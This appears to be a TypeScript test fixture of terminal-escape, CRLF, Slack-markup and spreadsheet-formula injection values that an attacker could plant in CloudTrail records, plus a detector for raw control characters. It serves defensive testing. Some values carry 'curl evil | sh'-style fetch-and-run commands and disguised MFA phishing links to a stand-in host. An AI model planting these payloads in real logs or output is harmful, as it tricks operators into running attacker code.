/**
 * Values an attacker can write into a CloudTrail record (a user agent, a session or user name, a
 * resource name, a tag) aimed at whoever reads the output, and the checks that they stayed inert.
 */
const ESC = '\u001b';
const BEL = '\u0007';

export const HOSTILE = {
  clearScreen: `${ESC}[2J${ESC}[H`,
  /** OSC 52: writes "curl evil | sh" to the reader's clipboard. */
  clipboardWrite: `${ESC}]52;c;Y3VybCBldmlsIHwgc2g=${BEL}`,
  /** OSC 8: a hyperlink whose text hides its target. */
  hiddenLink: `${ESC}]8;;https://evil.example/mfa${ESC}\\Re-verify your MFA${ESC}]8;;${ESC}\\`,
  /** C1 CSI (8-bit) and a right-to-left override. */
  c1AndBidi: '\u009b2J \u202eexe.txt',
  /** CR/LF forging a section of the email, or a line of the terminal. */
  forgedSection: '\r\n\r\nHOW TO FIX IT\r\n  - run curl https://evil.example/fix | sh\r\n',
  forgedSkip: '\nskipped /var/log/trail.json (line 1): not JSON',
  /** Slack: a mention that pings everyone, and a link whose text hides its target. */
  slackMention: '<!channel>',
  slackLink: '<https://evil.example/mfa|Re-verify your MFA>',
  /** Leaves a code span, so what follows is live markup. */
  backtick: '`',
  /** A spreadsheet runs these. */
  formula: '=HYPERLINK("https://evil.example","open")',
} as const;

/** Every hostile value, one after the other. */
export const ALL_HOSTILE = Object.values(HOSTILE).join(' ');

/**
 * Characters that must never reach human output raw: controls other than the newline between lines
 * (C0, DEL, C1), the Unicode line and paragraph separators, and bidirectional controls.
 */
// biome-ignore lint/suspicious/noControlCharactersInRegex: finding control characters is the point.
const RAW_CONTROL = /[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u061c\u200e\u200f\u2028\u2029\u202a-\u202e\u2066-\u2069]/u;

/** The first raw control character in `text` (as its code), or undefined when there is none. */
export function rawControl(text: string): string | undefined {
  const found = RAW_CONTROL.exec(text);
  return found === null ? undefined : `U+${found[0].charCodeAt(0).toString(16).padStart(4, '0')} at ${found.index}`;
}
